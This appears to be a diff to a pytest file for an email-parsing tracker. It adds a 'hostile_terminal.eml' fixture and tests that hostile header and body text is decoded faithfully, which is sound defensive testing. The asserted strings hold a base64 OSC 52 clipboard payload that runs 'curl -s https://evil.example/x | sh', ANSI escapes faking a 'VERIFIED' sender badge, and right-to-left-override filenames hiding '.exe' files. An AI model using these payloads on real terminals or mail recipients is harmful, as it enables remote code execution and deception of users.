@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from tracker.parsing import decode_bytes, parse_headers, parse_message
+from tracker.parsing import decode_bytes, header_text, parse_headers, parse_message
 
 MAIL = Path(__file__).parent / "data" / "mail"
 OUR_LETTER_1 = "<hc-2026-0001.5f3a9c0d1e2b3a4c5d6e@hrgroup.example>"
@@ -71,6 +71,9 @@ HEADERS = {
                            "inquiries@hrgroup.example",
                            ("StartBoundaryNotFoundDefect", "CloseBoundaryNotFoundDefect")),
     "no_headers.eml": ("", "", "", None, ("missing Message-ID", "missing Date", "missing From")),
+    "hostile_terminal.eml": ("Re: [HC-2020-0001] your letter\x1b[2J", "legal@zoom.us",
+                             "Zoom Legal\x1b[32m (verified sender)\x1b[0m",
+                             "inquiries@hrgroup.example", ()),
 }
 
 
@@ -88,7 +91,8 @@ def test_sample_headers_decode(name: str, expected: tuple[str, str, str, str | N
     parsed = parse_message(sample(name))
     head = parsed.headers
     assert subject in head.subject
-    assert "\n" not in head.subject and "\ufffd" not in head.subject
+    if name != "hostile_terminal.eml":  # its encoded-words decode to CR LF on purpose
+        assert "\n" not in head.subject and "\ufffd" not in head.subject
     assert (head.from_addr, head.from_name) == (from_addr, from_name)
     if recipient:
         assert recipient in head.recipients
@@ -157,6 +161,37 @@ def test_body_text_prefers_plain_and_strips_html(name: str, present: list[str],
     text = parse_message(sample(name)).text
     assert all(p in text for p in present), text
     assert not any(a in text for a in absent), text
+
+
+def test_hostile_text_is_decoded_exactly_never_cleaned() -> None:
+    # Evidence keeps what the sender wrote; only display makes it inert (tracker.inert).
+    parsed = parse_message(sample("hostile_terminal.eml"))
+    subject = parsed.headers.subject
+    assert "\x1b]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\x07" in subject
+    assert subject.endswith("\r\nVERIFIED REPLY from Zoom Legal ✔ \u202etxt.exe \x9b2J "
+                            "\u2066end\u2069\x7f")
+    assert "\x1b[1;32mVERIFIED: this reply is authentic.\x1b[0m\n" in parsed.text
+    assert parsed.attachments == (("invoice\u202efdp.exe", "application/octet-stream", 32),)
+    assert not parsed.text_from_html
+
+
+@pytest.mark.parametrize(("name", "from_html"), [
+    ("reply_subject_tag.eml", True), ("reply_to_tag_address.eml", False),
+    ("reply_in_reply_to.eml", False), ("bounce_gmail.eml", False),
+])
+def test_text_from_html_says_which_part_was_read(name: str, from_html: bool) -> None:
+    assert parse_message(sample(name)).text_from_html is from_html
+
+
+@pytest.mark.parametrize(("value", "expected"), [
+    ("=?utf-8?q?Re=3A_Ihre_Anfrage_=E2=80=93_Entscheidung?=", "Re: Ihre Anfrage – Entscheidung"),
+    ("=?gb2312?b?19S2r7vYuLQ=?= <a@b.example>", "自动回复 <a@b.example>"),
+    ("Zoom\r\n Legal <legal@zoom.us>", "Zoom Legal <legal@zoom.us>"),  # unfolded
+    ("caf\udcc3\udca9", "café"),  # raw 8-bit UTF-8, as compat32 keeps it
+    ("=?utf-8?b?G1sySg==?=", "\x1b[2J"),  # decoded exactly: display makes it inert
+])
+def test_header_text_decodes_for_display(value: str, expected: str) -> None:
+    assert header_text(value) == expected
 
 
 @pytest.mark.parametrize("name", sorted(HEADERS))
